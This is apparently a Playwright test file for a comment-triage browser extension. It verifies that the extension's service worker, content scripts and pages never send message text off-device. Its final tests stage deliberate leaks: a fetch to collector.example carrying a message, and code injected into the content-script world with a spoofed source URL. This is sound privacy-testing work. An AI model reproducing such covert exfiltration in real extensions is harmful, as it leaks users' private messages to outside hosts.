// Privacy: nothing the extension reads leaves the browser. One Chromium with the built extension
// visits the demo inbox, the "Play a day" scenario, the dashboard with a dropped export and every
// platform fixture (over HTTPS under the platforms' real hostnames), and opens the popup and the
// options page; every request of every context is recorded: Playwright's (pages, and the
// extension's service worker) and, per page, CDP's Network domain (which says what started a
// request: a content script's file is on its initiator's stack). Then:
//   - an extension context (service worker, popup, options, content scripts) requests nothing but
//     the extension's own files;
//   - every request goes to the local servers or the extension, is a GET, and asks for something
//     the server has (a content script's "ping" to the page's own host is an unknown resource);
//   - no request, from any context, carries a message's text (URL, headers or body).
// The rules are checked against deliberate leaks at the end (service worker, content script,
// options page), so this test is known to fail when something does send.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, DIST_CHROME, launchWithExtension, startServer, insertFirstReply, shingles } from './helpers.mjs';
import { PLATFORMS, UNKNOWN_SITES, startPlatformServer, urlOf, unknownUrlOf } from '../platforms/server.mjs';

/** Snippets of demo messages that must never leave in a request (kept from the first version). */
const SECRETS = ['escrocs', 'immigrants', 'perturbateurs', 'clowns', 'bouffons', 'blisters', 'Lyon', 'remboursé', 'voucher'];
const EXPORT = join(ROOT, 'tests', 'exports', 'hootsuite_inbox', 'export.tsv');

/** Answered with what the server has (a favicon the fixtures lack aside); no answer yet is no verdict. */
const OK = (r) => r.status === null || [200, 204, 206, 304].includes(r.status) || r.url.endsWith('/favicon.ico') || r.url.startsWith('data:') || r.url.startsWith('blob:');

function decoded(s) {
  try {
    return decodeURIComponent(s.replace(/\+/g, ' '));
  } catch {
    return s;
  }
}

describe('no request leaves with what the extension reads', () => {
  let demo;
  let fixtures;
  let browser;
  let own;
  /** Playwright's record: `{url, method, body, headers, worker, frame, status}`. */
  const requests = [];
  /** CDP's record per page: `{url, initiator}`. */
  const initiated = [];
  const sockets = [];
  /** Texts the pages showed: any of their shingles in a request is a leak. */
  const texts = new Set(SECRETS);

  /** A new tab with CDP's Network domain on before it loads anything. */
  async function open(url) {
    const page = await browser.context.newPage();
    const cdp = await browser.context.newCDPSession(page);
    const byId = new Map();
    cdp.on('Network.requestWillBeSent', (e) => {
      const entry = { url: e.request.url, initiator: e.initiator, status: null };
      byId.set(e.requestId, entry);
      initiated.push(entry);
    });
    cdp.on('Network.responseReceived', (e) => {
      const entry = byId.get(e.requestId);
      if (entry) entry.status = e.response.status;
    });
    cdp.on('Network.webSocketCreated', (e) => sockets.push(e.url));
    await cdp.send('Network.enable');
    page.on('websocket', (ws) => sockets.push(ws.url()));
    if (url) await page.goto(url);
    page.cdp = cdp;
    return page;
  }

  const collect = async (page, selector) => {
    for (const t of await page.locator(selector).allTextContents()) texts.add(t.replace(/\s+/g, ' ').trim());
  };

  /** Every rule a request breaks, as sentences; `since` starts the check at a record index. */
  function violations({ since = 0, sinceInitiated = 0 } = {}) {
    const allowed = [new URL(demo.url).origin, ...[...Object.values(PLATFORMS), ...Object.values(UNKNOWN_SITES)].map((p) => `https://${p.host}`)];
    const marks = [...texts].flatMap(shingles).concat(SECRETS);
    const out = [];
    for (const r of requests.slice(since)) {
      const extensionContext = r.worker || r.frame.startsWith('chrome-extension://');
      if (r.url.startsWith(own)) continue; // the extension's own files (the wasm, the pages' scripts)
      if (extensionContext) out.push(`an extension context (${r.worker ? 'service worker' : r.frame}) requested ${r.url}`);
      const origin = (() => { try { return new URL(r.url).origin; } catch { return r.url; } })();
      if (!allowed.includes(origin) && !r.url.startsWith('data:') && !r.url.startsWith('blob:')) out.push(`request to ${r.url} (from ${r.worker ? 'the service worker' : r.frame})`);
      if (r.method !== 'GET') out.push(`${r.method} ${r.url}`);
      if (!OK(r)) out.push(`${r.url} answered ${r.status}: asked for something the page does not have`);
      const sent = `${r.url}\n${decoded(r.url)}\n${r.body}\n${decoded(r.body)}\n${JSON.stringify(r.headers)}`;
      const leak = marks.find((m) => sent.includes(m));
      if (leak) out.push(`message text ${JSON.stringify(leak)} in a request to ${r.url}`);
    }
    for (const e of initiated.slice(sinceInitiated)) {
      const frames = e.initiator?.stack?.callFrames ?? [];
      const script = frames.find((f) => f.url.startsWith('chrome-extension://'))?.url ?? (e.initiator?.url?.startsWith('chrome-extension://') ? e.initiator.url : null);
      if (script && !e.url.startsWith(own)) out.push(`a content script (${script}) requested ${e.url}`);
      if (!OK(e)) out.push(`${e.url} answered ${e.status}: asked for something the page does not have`);
    }
    for (const url of sockets) out.push(`a WebSocket to ${url}`);
    return out;
  }

  before(async () => {
    demo = await startServer();
    fixtures = await startPlatformServer();
    // The fixtures' resolver rules make every other name unresolvable; the demo server's address stays reachable.
    const args = fixtures.args.map((a) => (a.startsWith('--host-resolver-rules=') ? `${a}, EXCLUDE 127.0.0.1` : a));
    browser = await launchWithExtension(DIST_CHROME, { args, ignoreHTTPSErrors: true });
    own = `chrome-extension://${browser.extensionId}/`;
    // Attached before any page opens and before the engine loads (it loads on the first batch).
    browser.context.on('request', (r) => {
      let frame = '';
      try {
        frame = r.frame().url();
      } catch {
        frame = ''; // a service worker's request has no frame
      }
      const entry = { url: r.url(), method: r.method(), body: r.postData() ?? '', worker: !!r.serviceWorker(), headers: r.headers(), frame, status: null };
      requests.push(entry);
      r.response().then((res) => { entry.status = res?.status() ?? null; }, () => {});
    });
  });
  after(async () => {
    await browser?.close();
    demo?.stop();
    fixtures?.stop();
  });

  test('the demo inbox: triaged, a reply inserted, a new comment', async () => {
    const page = await open(demo.url);
    await page.waitForFunction(() => document.documentElement.dataset.sentinelle === 'ready', null, { timeout: 20_000 });
    await page.waitForFunction(() => document.querySelectorAll('[data-sentinelle-primary]').length >= 17);
    await insertFirstReply(page.locator('[data-message-id="c4"] sentinelle-card'));
    await page.getByRole('button', { name: 'Simulate a new comment' }).click();
    await page.waitForSelector('[data-message-id="n1"][data-sentinelle-primary]');
    await collect(page, '.message-text');
    await page.close();
  });

  test('the demo scenario plays, its messages triaged as they arrive', async () => {
    const page = await open(`${demo.url}?scenario=day`);
    await page.locator('#scenario').waitFor();
    await page.locator('button[data-speed="20"]').click();
    await page.locator('#scenario-play').click();
    // Three messages (08:51–08:55 at 20×): each arrival is a batch through the engine.
    await page.waitForFunction(() => document.querySelectorAll('[data-scenario] [data-sentinelle-primary]').length >= 3, null, { timeout: 30_000 });
    await page.locator('#scenario-play').click(); // pause
    await collect(page, '[data-scenario] .message-text');
    assert.ok(texts.size > SECRETS.length + 17, 'the scenario\'s texts were collected');
    await page.close();
  });

  test('the dashboard with a dropped export', async () => {
    const page = await open(`${demo.url}triage.html`);
    await page.waitForSelector('body[data-engine="ready"]');
    // Dropped on the form, as a team lead drags a file from their desktop.
    await page.evaluate(([name, text]) => {
      const data = new DataTransfer();
      data.items.add(new File([text], name, { type: 'text/tab-separated-values' }));
      document.getElementById('input-form').dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
    }, ['export.tsv', readFileSync(EXPORT, 'utf8')]);
    await page.locator('#run').click();
    await page.waitForSelector('body[data-run="done"]', { timeout: 60_000 });
    assert.ok(await page.locator('#verdicts tbody tr').count() > 0, 'the dropped export was triaged');
    // The export's message column: every text the dashboard triaged.
    const [header, ...rows] = readFileSync(EXPORT, 'utf8').trim().split('\n').map((l) => l.split('\t'));
    const col = header.indexOf('Message');
    for (const r of rows) if (r[col]) texts.add(r[col].replace(/^"|"$/g, ''));
    await page.close();
  });

  for (const [name, url] of [...Object.keys(PLATFORMS).map((p) => [p, urlOf(p)]), ...Object.keys(UNKNOWN_SITES).map((s) => [s, unknownUrlOf(s)])]) {
    test(`the ${name} fixture`, async () => {
      const page = await open(url);
      if (name in PLATFORMS) {
        await page.waitForFunction(() => document.documentElement.dataset.sentinelle === 'ready', null, { timeout: 20_000 });
        await page.waitForFunction(() => document.querySelectorAll('[data-expect]').length > 0
          && document.querySelectorAll('[data-expect]:not([data-sentinelle-primary])').length === 0, null, { timeout: 20_000 });
      } else {
        await page.waitForLoadState('load');
      }
      const comments = await page.locator('[data-expect]').allTextContents();
      for (const t of comments) texts.add(t.replace(/\s+/g, ' ').trim());
      await page.close();
    });
  }

  test('the popup and the options page', async () => {
    for (const path of ['pages/popup.html', 'pages/options.html']) {
      const page = await open(browser.extensionUrl(path));
      await page.waitForSelector('body[data-ready="true"]');
      await page.close();
    }
  });

  test('nothing was requested but the local pages and the extension\'s own files, and no text left', async () => {
    // The capture must see the service worker's own fetch of the wasm, or this test proves nothing.
    assert.ok(requests.some((r) => r.url === `${own}wasm/sentinelle_bg.wasm` && r.worker), `the service worker's wasm fetch was not captured`);
    assert.ok(initiated.length > 0, 'CDP recorded the pages\' requests');
    assert.ok(texts.size > 60, `texts of every surface collected (${texts.size})`);
    assert.deepEqual(violations(), []);
  });

  describe('the rules catch a leak (so this test can fail)', () => {
    const TEXT = 'Bande d\'escrocs, vous m\'avez volé mon argent';

    test('a fetch from the service worker', async () => {
      const since = requests.length;
      await browser.worker.evaluate((t) => fetch(`https://collector.example/?m=${encodeURIComponent(t)}`).catch(() => null), TEXT);
      const found = violations({ since, sinceInitiated: initiated.length });
      for (const want of ['an extension context (service worker) requested https://collector.example/', 'request to https://collector.example/', 'message text']) {
        assert.ok(found.some((v) => v.includes(want)), `not caught: ${want}\n${found.join('\n')}`);
      }
    });

    test('a fetch from a content script, to the page\'s own host', async () => {
      const page = await open(urlOf('facebook'));
      await page.waitForFunction(() => document.documentElement.dataset.sentinelle === 'ready', null, { timeout: 20_000 });
      const since = requests.length;
      const sinceInitiated = initiated.length;
      // The content scripts' isolated world; the sourceURL makes the code look like one of the
      // extension's files on the initiator's stack, as a real content script's fetch would.
      const contexts = [];
      page.cdp.on('Runtime.executionContextCreated', (e) => contexts.push(e.context));
      await page.cdp.send('Runtime.enable');
      const world = contexts.find((c) => c.origin === own.slice(0, -1) || (c.auxData?.type === 'isolated' && c.name.includes('Sentinelle')));
      assert.ok(world, `the content scripts' world: ${JSON.stringify(contexts.map((c) => [c.name, c.origin]))}`);
      await page.cdp.send('Runtime.evaluate', {
        contextId: world.id,
        awaitPromise: true,
        expression: `fetch(location.origin + '/collect?m=' + encodeURIComponent(${JSON.stringify(TEXT)})).then((r) => r.status, () => 0)\n//# sourceURL=${own}content/canary.js`,
      });
      // Playwright reports the response after the page has it: wait for the record, not a time.
      for (let i = 0; i < 100 && !initiated.slice(sinceInitiated).some((r) => r.url.includes('/collect') && r.status !== null); i++) await new Promise((r) => setTimeout(r, 50));
      await page.close();
      const found = violations({ since, sinceInitiated });
      for (const want of [`a content script (${own}content/canary.js) requested https://www.facebook.com/collect`, 'message text']) {
        assert.ok(found.some((v) => v.includes(want)), `not caught: ${want}\n${found.join('\n')}`);
      }
    });

    test('a page asking its server for something it does not have', async () => {
      const page = await open(demo.url);
      const sinceInitiated = initiated.length;
      await page.evaluate(() => fetch('/collect').then((r) => r.status));
      for (let i = 0; i < 100 && !initiated.slice(sinceInitiated).some((r) => r.url.endsWith('/collect') && r.status !== null); i++) await new Promise((r) => setTimeout(r, 50));
      await page.close();
      const found = violations({ since: requests.length, sinceInitiated });
      assert.ok(found.some((v) => v === `${demo.url}collect answered 404: asked for something the page does not have`), found.join('\n'));
    });

    test('a fetch from the options page', async () => {
      const page = await open(browser.extensionUrl('pages/options.html'));
      await page.waitForSelector('body[data-ready="true"]');
      const since = requests.length;
      await page.evaluate(() => fetch('https://www.facebook.com/ping').catch(() => null));
      await page.close();
      const found = violations({ since, sinceInitiated: initiated.length });
      assert.ok(found.some((v) => v.startsWith(`an extension context (${own}pages/options.html) requested https://www.facebook.com/ping`)), found.join('\n'));
    });
  });
});
